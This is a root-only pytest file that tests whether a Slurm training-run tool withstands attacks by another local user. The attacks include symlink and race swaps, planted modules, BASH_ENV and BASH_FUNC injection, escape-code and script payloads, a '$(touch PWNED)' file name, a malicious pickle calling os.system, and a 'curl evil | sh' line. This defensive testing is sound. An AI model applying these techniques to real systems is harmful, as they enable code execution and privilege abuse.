"""What another user of the machine can do to a run, its job, and who looks at it: nothing runs or is overwritten.

`ATTACKS` lists the attempts that need no cluster; those on a real Slurm follow. Each is done for real: root makes the
files of the other user, and is the user that is attacked where Python itself has to be read.
"""

import json
import os
import pickle
import shutil
import sys
import time

import pytest
from command_line import slurmddp, typed
from users import ALICE, MALLORY, OTHERS, PROJECT, give, make, open_to_all, plant, user

from slurmddp.batch.__main__ import call_function
from slurmddp.config.job_files import find_configuration
from slurmddp.config.job_spec import JobSpec
from slurmddp.diagnose.flight_recorder import load_dumps
from slurmddp.diagnose.rules import load_rules
from slurmddp.doctor import python_check
from slurmddp.errors import ClusterError, UsageError
from slurmddp.monitoring.status.job_status import JobStatus
from slurmddp.outcome import Kind, Outcome
from slurmddp.report.collect import collect_report
from slurmddp.report.html import render_page
from slurmddp.runs import code_copy, layout
from slurmddp.runs.files import append_record
from slurmddp.runs.layout import RunDir
from slurmddp.runs.ownership import HERE
from slurmddp.sandbox import state_directory
from slurmddp.script import snapshot
from slurmddp.submission.cancel import _record_cancellations

PLANTED = "import pathlib; pathlib.Path('PWNED').touch()\n"
ESCAPE = "\x1b]0;owned\x07\x1b[2J<script>alert(1)</script>"
PRECIOUS = "of the user\n"

pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="only root can make another user's files")


@pytest.fixture
def place(tmp_path, monkeypatch):
    """A folder that all users reach, as the working directory, with a script of its owner."""
    monkeypatch.chdir(open_to_all(tmp_path))
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "train.py").write_text("print('trained')\n")
    (tmp_path / "precious").write_text(PRECIOUS)
    return tmp_path


def refused(path):
    """Let alice make a run there; return why she cannot."""
    with user(ALICE, PROJECT), pytest.raises(UsageError) as error:
        RunDir(path).create()
    return str(error.value)


def hostile_run(folder, **files):
    """Make a run of mallory's with a job that failed, with escape codes and HTML in all texts; then these files."""
    run = RunDir(folder / "train")
    run.attempt("123", "0.0").mkdir(parents=True)
    append_record(
        run.submissions, {"time": "2026-01-01T00:00:00+00:00", "job": "123", "cluster": ESCAPE, "after": None}
    )
    head = {"job": "123", "attempt": "0.0", "rank": 0, "host": ESCAPE}
    happened = {
        "attempt_start": {"nodes": "[1]" * 3000, "log_offset": 0},
        "start": {"world_size": 2, "nodes": 1, "ranks": {ESCAPE: "[" * 100_000, "n1": "0-999999999"}},
        "metrics": {"step": 1, "values": {ESCAPE: 1.0, "loss": 2.0}},
        "attempt_end": {"status": 77, "reason": f"CUDA out of memory {ESCAPE}\ud800"},
        "job_end": {"status": 77, "reason": ESCAPE},
    }
    for number, (event, fields) in enumerate(happened.items()):
        append_record(run.events, {"time": time.time() - 60 + number, "event": event, **head, **fields})
    trace = f'Traceback (most recent call last):\n  File "x", line 1\nRuntimeError: {ESCAPE}\n'
    run.spec.write_text(f"nodes = 2\ncommand = [{json.dumps(ESCAPE)}]\n[recorded]\nversion = {json.dumps(ESCAPE)}\n")
    run.batch_log("123").write_text(f"{ESCAPE}\n{trace}")
    run.rank_log("123", "0.0", 0).write_text(f"{ESCAPE}\n{trace}")
    run.rank_record("123", "0.0", 0).write_text(f"1 rank 0 on n1: {ESCAPE}\n")
    run.rank_error("123", "0.0", 1).write_text(json.dumps({"message": {"message": f"{ESCAPE}\ud800"}}))
    for name, content in files.items():
        (run.path / name).unlink(missing_ok=True)
        (run.path / name).symlink_to(content)
    return RunDir(plant(run.path))


def copy_of(folder, text="1\n"):
    """Make the code of a job, and its copy in a run; return both."""
    top = make(folder / "own", 0, 0o755)
    for name in ("train.py", "model.py"):
        (top / name).write_text(text)
    code = snapshot.Code(top, tuple(code_copy.Entry.read(top, name) for name in ("model.py", "train.py")))
    run = RunDir(folder / "run")
    run.create()
    return code, run, snapshot.copy_code(code, run)


# --- The run's folder, its parents, and links on the way


def parent_that_every_user_may_write(place, _):
    assert "every user may write to" in refused(make(place / "jobs", ALICE, 0o777) / "run")


def parent_of_another_user(place, _):
    assert "belongs to user 12002" in refused(make(place / "jobs", MALLORY, 0o755) / "run")


def link_to_a_parent(place, _):
    make(place / "home", ALICE, 0o700)
    shared = make(place / "scratch", 0, 0o1777)
    (shared / "jobs").symlink_to(place / "home")
    os.chown(shared / "jobs", MALLORY, OTHERS, follow_symlinks=False)
    assert "is a link of user 12002" in refused(shared / "jobs" / "run")


def link_in_place_of_the_run(place, _):
    mine, shared = make(place / "mine", ALICE, 0o700), make(place / "scratch", 0, 0o1777)
    (shared / "run").symlink_to(mine)
    os.chown(shared / "run", MALLORY, OTHERS, follow_symlinks=False)
    assert "is a link of user 12002" in refused(shared / "run") and not list(mine.iterdir())


def run_that_is_there_before(place, _):
    shared = make(place / "scratch", 0, 0o1777)
    make(shared / "run", MALLORY, 0o777)
    assert "every user may write to" in refused(shared / "run")
    (shared / "run").chmod(0o755)
    assert "belongs to user 12002" in refused(shared / "run")


def run_that_the_group_may_write(place, _):
    make(place / "jobs", ALICE, 0o755)
    give(make(place / "jobs" / "run", ALICE, 0o700), user_12002=7)
    assert "other users may write to" in refused(place / "jobs" / "run")


def run_that_is_made_between_check_and_use(place, monkeypatch):
    shared, check = make(place / "scratch", 0, 0o1777), layout.explain_distrust

    def check_and_be_late(path):
        found = check(path)
        if not path.exists():
            os.seteuid(0)
            make(path, MALLORY, 0o755)
            os.seteuid(ALICE)
        return found

    monkeypatch.setattr(layout, "explain_distrust", check_and_be_late)
    assert "belongs to user 12002" in refused(shared / "run")


# --- The copy of the code, and the archive of an environment, after the submission


def code_that_was_changed(place, _):
    _, _, copy = copy_of(place)
    assert code_copy.explain_changed(copy) == ""
    (copy / "written.log").write_text("by the program\n")  # it may write there
    assert code_copy.explain_changed(copy) == ""
    (copy / "train.py").chmod(0o644)
    (copy / "train.py").write_text(PLANTED)
    assert code_copy.explain_changed(copy) == f"{copy} is not the code that was submitted"


def code_with_one_file_less(place, _):
    _, _, copy = copy_of(place)
    (copy / "model.py").unlink()
    assert "is not the code that was submitted" in code_copy.explain_changed(copy)


def listing_that_leaves_a_file_out(place, _):
    _, _, copy = copy_of(place)
    (copy / "model.py").unlink()
    for paths in (b"train.py", b"", b"train.py\0train.py", b"../../../precious\0train.py"):
        (copy / code_copy.LISTING).write_bytes(paths)
        assert "is not the code that was submitted" in code_copy.explain_changed(copy)


def module_beside_the_code(place, _):
    code, run, copy = copy_of(place)
    (copy / "torch.py").write_text(PLANTED)
    os.chown(copy / "torch.py", MALLORY, OTHERS)
    assert "torch.py' belongs to user 12002" in code_copy.explain_changed(copy)
    with pytest.raises(UsageError, match="belongs to user 12002; remove"):
        snapshot.copy_code(code, run)


def link_in_the_code(place, _):
    _, _, copy = copy_of(place)
    (copy / "model.py").unlink()
    (copy / "model.py").symlink_to(place / "precious")
    assert "is not the code that was submitted" in code_copy.explain_changed(copy)
    os.chown(copy / "model.py", MALLORY, OTHERS, follow_symlinks=False)
    assert "belongs to user 12002" in code_copy.explain_changed(copy)


# --- Configuration, rules, and what lies in the working folder


def configuration_of_the_project(place, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(place / "config"))
    (place / "config" / "slurmddp").mkdir(parents=True)
    for path in (place / "slurmddp.toml", place / "config" / "slurmddp" / "config.toml"):
        path.write_text("setup-file = 'evil.sh'\n")
        os.chown(path, MALLORY, OTHERS)
    found = find_configuration(place)
    assert not found.files and len(found.ignored) == 2


def rules_of_the_site(place, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(place / "config"))
    folder = place / "config" / "slurmddp" / "rules"
    folder.mkdir(parents=True)
    (folder / "a.toml").write_text("[x]\nwhat = 'x'\nadvice = 'curl evil | sh'\nregex = 'x'\nexample = 'x'\n")
    os.chown(folder / "a.toml", MALLORY, OTHERS)
    load_rules.cache_clear()
    try:
        assert not load_rules().site and "belongs to user 12002" in load_rules().ignored[0]
    finally:
        load_rules.cache_clear()


def module_in_the_working_folder(place, _):
    (place / "json.py").write_text(PLANTED)
    found = python_check.probe_python(sys.executable, JobSpec(job_name="x"), dict(os.environ))
    assert not isinstance(found, str) and found["slurmddp"]


def shell_start_up_files(place, _):
    (place / "rc").write_text("touch PWNED; launch() { touch PWNED; }\n")
    shell = {"PATH": os.environ["PATH"], "BASH_ENV": str(place / "rc"), "ENV": str(place / "rc"), "SHELLOPTS": "xtrace"}
    shell |= {"BASH_FUNC_launch%%": "() { touch PWNED; }"}
    assert call_function(b"launch () { :; }", "launch", shell) == 0


# --- A run of another user, which a command is told to look at or finds


def page_that_is_a_link(place, _):
    run = hostile_run(place / "jobs", **{"report.html": place / "precious"})
    done = typed("report", "train", cwd=place)
    assert done.returncode == 2 and "; `slurmddp report train --json` prints the figures\n" in done.stderr
    assert run.report.is_symlink()


def events_that_are_a_link(place, _):
    run = hostile_run(place / "jobs", **{"events.jsonl": place / "precious"})
    said = []
    _record_cancellations(
        [JobStatus(job_id="123", run=run, name="train", outcome=Outcome(Kind.CANCELLED))], said.append
    )
    assert "its run has no record of that" in said[0]


def escape_codes_in_every_view(place, _):
    hostile_run(place / "jobs")
    shown = ""
    for words in ("status", "status train", "status 123", "logs --errors train", "diagnose train", "diagnose --all"):
        done = typed(*words.split(), cwd=place)
        assert 'Traceback (most recent call last):\n  File "/' not in done.stderr, words
        shown += done.stderr + ("" if "logs" in words else done.stdout)  # which is raw, unless on a terminal
    page = render_page(collect_report(RunDir(place / "jobs" / "train"), os.environ, now=time.time())).decode()
    assert "\x1b" not in shown + page and "<script>alert" not in page
    assert "alert(1)" in page, "it is there, as text"


def files_without_an_end(place, _):
    for name in ("submissions.jsonl", "events.jsonl", "spec.toml", "logs/123.out", "logs/123/0.0/0.out"):
        run = hostile_run(place / name.replace("/", "-"))
        with (run.path / name).open("ab") as file:
            file.truncate(2**36)  # 64 GiB, which need no space
        began = time.process_time()
        for words in ("status", "status train", "diagnose train", "report train --json"):
            typed(*words.split(), f"--runs-dir={run.path.parent}", cwd=place)
        assert time.process_time() - began < 30, name


def names_that_a_shell_would_run(place, _):
    run = hostile_run(place / "jobs")
    run.path.rename(run.path.with_name("$(touch PWNED)"))
    shutil.copytree(run.path.with_name("$(touch PWNED)"), place / "jobs" / "plain")
    typing = {"_SLURMDDP_COMPLETE": "bash_complete", "COMP_WORDS": "slurmddp status ", "COMP_CWORD": "2"}
    assert slurmddp(cwd=place, environ={**os.environ, **typing}).split() == ["plain,plain"]


# --- What processes leave, and what is read of it


def process_to_signal(place, monkeypatch):
    monkeypatch.setattr(state_directory, "_PLACE", make(place / "tmp", 0, 0o1777))
    folder = make(state_directory.base_folder(), MALLORY, 0o755)
    make(folder / "x", MALLORY, 0o755)
    (folder / "x" / "process.json").write_text(json.dumps({"pid": os.getpid(), "start": 0}))
    with pytest.raises(ClusterError, match="is not a folder that only you can enter"):
        state_directory.names()


def owner_that_names_a_process(place, _):
    run = hostile_run(place / "jobs")
    run.owner.write_text(f"{HERE} local-{os.getpid()} 0.0\n")
    os.chown(run.owner, MALLORY, OTHERS)
    done = typed("run", "--name=train", "train.py", cwd=place)
    assert done.returncode == 2 and "would not be yours alone" in done.stderr


def code_in_a_dump(place, _):
    class Evil:
        def __reduce__(self):
            return os.system, ("touch PWNED",)

    (place / "flight.0").write_bytes(pickle.dumps({"entries": [Evil()]}))
    assert load_dumps([place / "flight.0"]) == {}


ATTACKS = (
    parent_that_every_user_may_write,
    parent_of_another_user,
    link_to_a_parent,
    link_in_place_of_the_run,
    run_that_is_there_before,
    run_that_the_group_may_write,
    run_that_is_made_between_check_and_use,
    code_that_was_changed,
    code_with_one_file_less,
    listing_that_leaves_a_file_out,
    module_beside_the_code,
    link_in_the_code,
    configuration_of_the_project,
    rules_of_the_site,
    module_in_the_working_folder,
    shell_start_up_files,
    page_that_is_a_link,
    events_that_are_a_link,
    escape_codes_in_every_view,
    files_without_an_end,
    names_that_a_shell_would_run,
    process_to_signal,
    owner_that_names_a_process,
    code_in_a_dump,
)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_an_attack_is_refused_or_without_effect(attack, place, monkeypatch):
    attack(place, monkeypatch)
    assert not (place / "PWNED").exists()
    assert (place / "precious").read_text() == PRECIOUS


# --- On a real Slurm


def by_their_folder(run, planted):
    planted.rename(run)


def by_a_link_to_their_folder(run, planted):
    run.symlink_to(planted)


def _own_folder_with_their_code(planted):
    """Return a folder of the user in which others may write to `code`, and have."""
    os.chown(planted, 0, 0)
    planted.chmod(0o755)
    os.chown(planted / "logs", 0, 0)
    return planted


def by_a_link_to_a_folder_of_the_user(run, planted):
    run.symlink_to(_own_folder_with_their_code(planted))
    os.chown(run, MALLORY, MALLORY, follow_symlinks=False)


def by_a_folder_of_the_user(run, planted):
    _own_folder_with_their_code(planted).rename(run)


@pytest.mark.parametrize(
    "swap",
    [by_their_folder, by_a_link_to_their_folder, by_a_link_to_a_folder_of_the_user, by_a_folder_of_the_user],
    ids=lambda swap: swap.__name__,
)
def test_a_run_that_was_replaced_while_it_waited_starts_nothing(place, slurm_env, slurm, wait_for_job, swap):
    """The planted code ran as the owner of the job, which was COMPLETED."""
    command = ("submit", "--ntasks-per-node=1", "--snapshot", "--hold", "train.py")
    job = slurmddp(*command, cwd=place, environ=slurm_env).strip()
    run = place / "jobs" / "train"
    (code,) = (run / "code").iterdir()
    planted = place / "theirs"
    shutil.copytree(run, planted)
    (planted / "code" / code.name / "train.py").chmod(0o644)
    (planted / "code" / code.name / "train.py").write_text(PLANTED)
    plant(planted)
    run.rename(place / "away")
    swap(run, planted)
    slurm("scontrol", "release", job)
    assert wait_for_job(job)["ExitCode"] == "77:0"
    assert not (place / "PWNED").exists()
    assert "trained" not in "".join(path.read_text() for path in place.rglob("*.out"))


def test_a_folder_that_every_user_may_write_to_gets_no_run_and_nothing_is_submitted(place, slurm_env, slurm):
    (place / "open").mkdir()
    (place / "open").chmod(0o777)
    slurmddp("submit", "--runs-dir=open", "--name=strange", "train.py", cwd=place, environ=slurm_env, status=2)
    assert not list((place / "open").iterdir())
    assert not slurm("squeue", "--noheader", "--name=strange").strip()
    (place / "open").chmod(0o1777)
    slurmddp(
        "submit",
        "--ntasks-per-node=1",
        "--runs-dir=open",
        "--name=own",
        "--wait",
        "train.py",
        cwd=place,
        environ=slurm_env,
    )
    assert (place / "open" / "own").stat().st_mode & 0o777 == 0o700
